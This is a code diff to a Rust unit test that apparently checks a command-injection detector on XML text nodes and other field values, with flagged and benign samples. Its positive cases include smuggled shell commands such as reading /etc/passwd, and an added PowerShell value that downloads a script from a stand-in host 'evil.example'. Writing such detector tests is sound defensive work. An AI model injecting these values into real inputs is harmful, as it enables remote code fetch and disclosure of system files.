@@ -4515,10 +4515,18 @@ fn xml_text_nodes_are_judged_decoded() {
         "<ip>8.8.8.8&#x0a;id</ip>",
         "<host><![CDATA[x;cat /etc/passwd]]></host>",
         ";i${!}d",
+        "x; . {whoami}",
+        "x; . { Invoke-WebRequest http://evil.example/a.ps1 }",
     ] {
         assert!(hit(v), "{v:?}");
     }
-    for v in ["<ip>8.8.8.8</ip>", "<code>ls -la</code>", "<name>Tom &amp; Jerry</name>"] {
+    for v in [
+        "<ip>8.8.8.8</ip>",
+        "<code>ls -la</code>",
+        "<name>Tom &amp; Jerry</name>",
+        "x; . {name}",
+        ". {whoami}",
+    ] {
         assert!(!hit(v), "{v:?}");
     }
 }
